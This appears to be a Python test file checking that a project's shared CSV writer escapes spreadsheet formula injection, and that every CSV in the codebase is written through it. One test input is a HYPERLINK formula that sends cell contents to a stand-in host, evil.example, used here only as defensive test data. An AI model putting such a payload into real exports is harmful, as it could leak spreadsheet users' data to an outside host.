"""Issue 16: no CSV the project writes carries a cell a spreadsheet runs as a formula.

The writer (``services/common/csv_output.py``) is checked here on its own; that every CSV goes through
it is checked by reading the code (a CSV written any other way fails the meta-test); that the
ledger's routes and the audit's exports use it, with text a municipality posted, is
``tests/integration/test_csv_formulas.py``.
"""

from __future__ import annotations

import ast
import csv
import io
import itertools
from decimal import Decimal
from pathlib import Path

import pytest

from services.common.csv_output import csv_text, csv_text_of_mappings, unescape_cell
from tests.support.spreadsheet import DANGEROUS, formula_cells

REPO = Path(__file__).resolve().parents[2]
SHARED_WRITER = "services/common/csv_output.py"


def test_a_text_starting_a_formula_is_written_as_text_and_numbers_stay_numbers() -> None:
    texts = [f"{c}HYPERLINK(\"https://evil.example/?\"&A1,\"klik\")" for c in DANGEROUS]
    text = csv_text(["description", "amount_cents", "euros"], [[t, -1500, Decimal("-15.00")] for t in texts])
    assert formula_cells(text) == []
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == ["description", "amount_cents", "euros"]
    # the text is kept whole behind an apostrophe (and one after its comma): a reader drops them, has the original
    assert [r[0] for r in rows[1:]] == [f"'{t[0]}HYPERLINK(\"https://evil.example/?\"&A1,'\"klik\")" for t in texts]
    assert [unescape_cell(r[0]) for r in rows[1:]] == texts
    assert [r[1:] for r in rows[1:]] == [["-1500", "-15.00"]] * len(texts)
    # texts are quoted, numbers written as they are: a spreadsheet reads -1500 as the number it is
    lines = text.split("\n")  # a cell may hold a carriage return, no line feed
    assert len(lines) == 2 + len(texts) and all(line.endswith('",-1500,-15.00') for line in lines[1:-1])


def test_a_formula_after_a_separator_or_a_line_break_inside_a_text_is_escaped_too() -> None:
    """Dutch Excel splits a CSV on ``;`` and heeds a quote only right after one: ``Flyers;=1+1`` would be a
    cell ``=1+1`` there, quoted or not; so would a line of a text after its line break."""
    texts = ["Flyers;=1+1", "Zuid, stad;@SUM(A1)", 'x;"=1+1', "regel 1\n-2+3", "a\t+b", "a,-1"]
    text = csv_text(["description"], [[t] for t in texts])
    assert formula_cells(text) == []
    assert [r[0] for r in csv.reader(io.StringIO(text, newline=""))][1:] == [
        "Flyers;'=1+1", "Zuid, stad;'@SUM(A1)", "x;'\"=1+1", "regel 1\n'-2+3", "a\t'+b", "a,'-1"
    ]


def test_the_rule_can_be_undone_exactly() -> None:
    """A text that itself has an apostrophe where one is added gets one more, so dropping one gives it back."""
    originals = ["'=1+1", "'quoted'", "=1+1", "plain", "", "- item", "12-3", "a;'b", "\r\n=x"]
    text = csv_text_of_mappings(["t"], [{"t": t} for t in originals])
    cells = [r[0] for r in csv.reader(io.StringIO(text, newline=""))][1:]
    assert cells == ["''=1+1", "''quoted'", "'=1+1", "plain", "", "'- item", "12-3", "a;''b", "'\r\n'=x"]
    assert [unescape_cell(c) for c in cells] == originals


def test_no_short_text_of_separators_quotes_and_formula_characters_makes_a_formula() -> None:
    """Every text of up to three of these characters, anywhere in a row: no formula cell, read with ``,``,
    ``;`` or tabs, and the original back from each cell."""
    alphabet = [*DANGEROUS, "\n", ",", ";", '"', "'", " ", "a", "1"]
    for n in (1, 2, 3):
        for chars in itertools.product(alphabet, repeat=n):
            original = "".join(chars)
            text = csv_text(["a", "b", "c"], [["id", original, -5], [original, "x", 1]])
            assert formula_cells(text) == [], (original, text)
            rows = list(csv.reader(io.StringIO(text, newline="")))
            assert unescape_cell(rows[1][1]) == original == unescape_cell(rows[2][0]), (original, text)


def test_mappings_keep_the_columns_and_leave_other_keys_out() -> None:
    text = csv_text_of_mappings(["a", "b", "c"], [{"c": True, "a": None, "other": "=x"}])
    assert text == '"a","b","c"\n"","",True\n'


def test_money_is_never_a_float() -> None:
    with pytest.raises(TypeError):
        csv_text(["amount"], [[15.0]])


def csv_writers(root: Path) -> list[str]:
    """Every place under ``root`` that makes a ``csv`` writer (``csv.writer``, ``csv.DictWriter``, also
    through ``import csv as x`` or ``from csv import writer``)."""
    found = []
    for path in sorted(root.rglob("*.py")):
        source = path.read_text(encoding="utf-8")
        if "csv" not in source:  # no import of csv or _csv: nothing to parse
            continue
        tree = ast.parse(source)
        aliases = {"csv", "_csv"}
        for node in ast.walk(tree):
            if isinstance(node, ast.Import):
                aliases |= {a.asname or a.name for a in node.names if a.name in ("csv", "_csv")}
        in_file = []
        for node in ast.walk(tree):
            if isinstance(node, ast.ImportFrom) and node.module in ("csv", "_csv"):
                names = [a.name for a in node.names if a.name in ("writer", "DictWriter", "*")]
            elif isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name) and node.value.id in aliases:
                names = [node.attr] if node.attr in ("writer", "DictWriter") else []
            else:
                continue
            in_file += [(node.lineno, name) for name in names]
        found += [f"{path.relative_to(root.parent).as_posix()}:{line}: {name}" for line, name in sorted(in_file)]
    return found


def test_every_csv_is_written_by_the_shared_writer() -> None:
    """A CSV written any other way would skip the formula rule: only the shared writer makes a csv writer."""
    for package in ("services", "contracts", "bench"):
        writers = [w for w in csv_writers(REPO / package) if not w.startswith(SHARED_WRITER + ":")]
        assert writers == [], f"write CSV with services.common.csv_output, not: {writers}"
    assert csv_writers(REPO / "services") != []  # the shared writer itself is found


def test_a_csv_writer_is_found_however_it_is_imported(tmp_path: Path) -> None:
    package = tmp_path / "services"
    package.mkdir()
    (package / "export.py").write_text(
        "import csv\nimport csv as spreadsheet\nfrom csv import DictWriter, reader\n"
        "a = csv.writer(out)\nb = spreadsheet.DictWriter(out, [])\nc = DictWriter(out, [])\nd = csv.reader(f)\n"
    )
    assert csv_writers(package) == [
        "services/export.py:3: DictWriter",
        "services/export.py:4: writer",
        "services/export.py:5: DictWriter",
    ]
